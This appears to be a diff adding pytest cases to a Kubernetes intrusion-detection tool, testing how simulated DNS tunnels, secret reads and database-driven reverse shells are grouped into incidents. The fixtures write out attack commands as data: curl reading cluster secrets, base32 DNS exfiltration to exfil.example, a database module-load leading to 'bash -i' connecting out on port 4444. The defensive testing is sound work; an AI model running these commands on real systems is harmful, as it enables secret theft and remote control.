@@ -335,3 +335,132 @@ def test_what_ran_suspiciously_on_the_host_after_an_escape_is_reached_from_it():
     assert host and {"hsh", "pay"} <= set(host[0].exec_ids) and "escape" in host[0].how
     assert not {"early", "rot", "cron"} & set(host[0].exec_ids)
     assert i.key_command is not None and i.key_command.exec_id == "pay"
+
+
+def _with_dns(fr, rows):
+    """``fr`` with DNS lookup flows (``dns_query``) added: (event id, time, exec id, pod, name)."""
+    extra = [{**flow(eid, t, x, ("a", pod), ("kube-system", "dns-0"), 53), "dns_query": q} for eid, t, x, pod, q in rows]
+    fl = fr["flows"].with_columns(pl.lit(None, pl.String).alias("dns_query"))
+    return {**fr, "flows": pl.concat([fl, pl.DataFrame(extra, schema=fl.schema)])}
+
+
+def _sidecar():
+    """A pod's entrypoint starts its app and a second program; the app reads its token at start (a
+    high detection) and calls one outside API all through the capture; minutes later the second
+    program starts a shell that reads the token and calls the Kubernetes API, then the pod (no flow
+    names the process) looks up 40 base32 names under one domain."""
+    import base64
+    import random
+
+    procs = [proc("init", "shim", "w-1", "/bin/sh", "/entrypoint.sh", 0),
+             proc("shim", None, None, "/shim", "", 0),
+             proc("app", "init", "w-1", "/srv/app", "--listen :8080", 20 * MS),
+             proc("prog", "init", "w-1", "/usr/local/bin/agent", "--flush 10s", 25 * MS),
+             proc("sh", "prog", "w-1", "/bin/sh", "-c 'curl … /api/v1/secrets'", 300 * S, exit_ns=302 * S),
+             proc("get", "sh", "w-1", "/usr/bin/curl", "-sk https://kubernetes.default.svc/api/v1/secrets", 300 * S + 5 * MS,
+                  exit_ns=301 * S)]
+    flows = [flow(f"t{i}", (1 + 20 * i) * S, "app", ("a", "w-1"), None, 443, dst_ip="198.51.100.80") for i in range(30)]
+    flows.append(flow("k", 300 * S + 9 * MS, "get", ("a", "w-1"), None, 6443, dst_ip="172.18.0.2"))
+    hits = _hits([{"rule_id": "sigma:token", "title": "token read", "level": "high", "exec_id": "app", "event_id": "h1",
+                   "time_ns": 200 * MS, "workload": "w"},
+                  {"rule_id": "sigma:token", "title": "token read", "level": "high", "exec_id": "sh", "event_id": "h2",
+                   "time_ns": 300 * S + MS, "workload": "w"},
+                  {"rule_id": "falco:api", "title": "Contact API", "level": "low", "exec_id": "get", "event_id": "h3",
+                   "time_ns": 300 * S + 9 * MS, "workload": "w"}])
+    rnd = random.Random(7)
+    lookups = [(f"d{i}", (305 + i) * S, None, "w-1",
+                f"{base64.b32encode(rnd.randbytes(30)).decode().lower().rstrip('=')}.{i:04x}.t.exfil.example.")
+               for i in range(40)]
+    lookups += [(f"n{i}", (2 + 20 * i) * S, None, "w-1", "api.partner.example.") for i in range(30)]
+    return _with_dns(frames(procs, flows, hits=hits), lookups)
+
+
+def test_a_pods_dns_tunnel_is_an_act_of_the_line_active_before_it_not_of_the_app_beside_it():
+    f = find_in(**_sidecar())
+    assert len(f.incidents) == 1
+    (i,) = f.incidents
+    assert (i.pod, i.namespace) == ("w-1", "a")
+    assert i.key_command is not None and i.key_command.exec_id in {"sh", "get"}  # the line's, never the app's
+    assert {"app", "init"}.isdisjoint(i.chain)
+    assert [(e.ip, e.port, e.fqdn, e.role) for e in i.endpoints] == [("", 53, "t.exfil.example", "exfil")]
+    assert {"T1048", "T1071"} <= set(i.techniques)
+    assert {f"d{n}" for n in range(40)} <= set(i.to_dict()["evidence"])  # every lookup is evidence
+    assert any("attributed to /usr/local/bin/agent" in w for w in i.why)
+    jsonschema = pytest.importorskip("jsonschema")
+    jsonschema.validate(f.to_dict(), schema())
+
+
+def test_without_the_lookups_the_app_beside_the_line_is_not_its_key_command_nor_endpoint():
+    fr = _sidecar()
+    fr["flows"] = fr["flows"].filter(pl.col("dns_query").is_null() | ~pl.col("dns_query").str.contains("exfil"))
+    for i in find_in(**fr).incidents:
+        assert i.key_command is not None and i.key_command.exec_id != "app"
+        assert "198.51.100.80" not in {e.ip for e in i.endpoints}
+
+
+def _through_a_database():
+    """Two injected requests into web-1 (its server is routine: it talks to db-0 all day): the first
+    shell's client makes db-0's server write a module (never run by a process); the second's
+    clients make the server start a shell there that connects out and is driven from outside."""
+    procs = [proc("websrv", None, "web-1", "/srv/web", t=-100 * S, seen="event"),
+             proc("dbsrv", None, "db-0", "/srv/db", t=-100 * S, seen="event", ns="b", node="n2"),
+             proc("sh1", "websrv", "web-1", "/bin/sh", "-c 'dbcli replicate-from 203.0.113.7'", 100 * S),
+             proc("cli1", "sh1", "web-1", "/usr/bin/dbcli", "replicate-from 203.0.113.7", 100 * S + 20 * MS),
+             proc("sh2", "websrv", "web-1", "/bin/sh", "-c 'dbcli load-module; dbcli run …'", 130 * S),
+             proc("cli2", "sh2", "web-1", "/usr/bin/dbcli", "load-module /data/m.so", 130 * S + 20 * MS),
+             proc("cli3", "sh2", "web-1", "/usr/bin/dbcli", "run 'bash -i'", 130 * S + 40 * MS),
+             proc("rsh", "dbsrv", "db-0", "/bin/sh", "-c 'bash -i'", 130 * S + 60 * MS, ns="b", node="n2"),
+             proc("bash", "rsh", "db-0", "/bin/bash", "-i", 130 * S + 62 * MS, ns="b", node="n2"),
+             proc("look", "bash", "db-0", "/usr/bin/id", "", 140 * S, ns="b", node="n2", exit_ns=140 * S + MS)]
+    flows = [flow(f"r{h}", h * 60 * S, "websrv", ("a", "web-1"), ("b", "db-0"), 6379) for h in range(-1, 5)]
+    flows += [flow("c1", 100 * S + 25 * MS, "cli1", ("a", "web-1"), ("b", "db-0"), 6379),
+              flow("c2", 130 * S + 25 * MS, "cli2", ("a", "web-1"), ("b", "db-0"), 6379),
+              flow("c3", 130 * S + 45 * MS, "cli3", ("a", "web-1"), ("b", "db-0"), 6379),
+              flow("o", 130 * S + 63 * MS, "bash", ("b", "db-0"), None, 4444, dst_ip="203.0.113.8")]
+    kp = [{"event_id": "w", "kind": "process_kprobe", "time_ns": 102 * S, "node": "n2", "namespace": "b",
+           "pod": "db-0", "workload": "db", "exec_id": "dbsrv", "function_name": "security_file_permission",
+           "file_path": "/data/m.so", "daddr": None, "dport": None, "hook_args": '[{"int_arg":2}]'}]
+    hits = _hits([{"rule_id": "sigma:svcshell", "title": "Shell started by a service", "level": "high", "exec_id": x,
+                   "event_id": f"h{x}", "time_ns": 100 * S, "workload": "web"} for x in ("sh1", "sh2")])
+    return frames(procs, flows, kp, hits=hits)
+
+
+def test_requests_that_drove_one_service_are_one_incident_keyed_on_what_the_service_then_ran():
+    f = find_in(**_through_a_database())
+    assert len(f.incidents) == 1
+    (i,) = f.incidents
+    assert (i.pod, i.namespace, i.node) == ("web-1", "a", "n1")
+    assert i.entry is not None and i.entry.exec_id == "sh2"  # on the key command's own line
+    # the shell the database started owns the channel out; the clients were only the means
+    assert i.key_command is not None and i.key_command.exec_id == "bash"
+    assert i.chain[0] == "sh2" and i.chain[-1] == "bash"
+    (r,) = i.reached
+    assert (r.pod, r.namespace) == ("db-0", "b") and {"service", "service_write"} <= set(r.how)
+    assert [(e.ip, e.port, e.role) for e in i.endpoints] == [("203.0.113.8", 4444, "c2")]
+
+
+def test_a_tunnel_sent_by_a_loop_of_lookup_tools_keys_on_the_loop_and_the_resolver_is_not_reached():
+    """An injected shell runs a script that runs one lookup tool per chunk (each lookup names its
+    process): the script owns the tunnel and is the key command; the resolver pod the lookups went
+    to is not a pod the attacker acted in."""
+    import base64
+    import random
+
+    rnd = random.Random(11)
+    procs = [proc("srv", None, "w-1", "/srv/app", t=-100 * S, seen="event"),
+             proc("inj", "srv", "w-1", "/bin/sh", "-c 'convert …; sh /tmp/.p'", 100 * S),
+             proc("script", "inj", "w-1", "/bin/sh", "/tmp/.p", 100 * S + 5 * MS)]
+    lookups = []
+    for i in range(30):
+        t = 101 * S + i * 300 * MS
+        procs.append(proc(f"dig{i}", "script", "w-1", "/usr/bin/dig", "+short TXT …", t, exit_ns=t + 50 * MS))
+        name = f"{base64.b32encode(rnd.randbytes(30)).decode().lower().rstrip('=')}.{i}.q.exfil.example."
+        lookups.append((f"d{i}", t + MS, f"dig{i}", "w-1", name))
+    hits = _hits([{"rule_id": "sigma:svcshell", "title": "Shell started by a service", "level": "high",
+                   "exec_id": "inj", "event_id": "h1", "time_ns": 100 * S, "workload": "w"}])
+    fr = _with_dns(frames(procs, hits=hits), lookups)
+    (i,) = find_in(**fr).incidents
+    assert i.key_command is not None and i.key_command.exec_id == "script"
+    assert i.entry is not None and i.entry.exec_id == "inj" and i.chain == ["inj", "script"]
+    assert i.reached == []  # dns-0 only answered lookups
+    assert [(e.fqdn, e.role) for e in i.endpoints] == [("q.exfil.example", "exfil")]
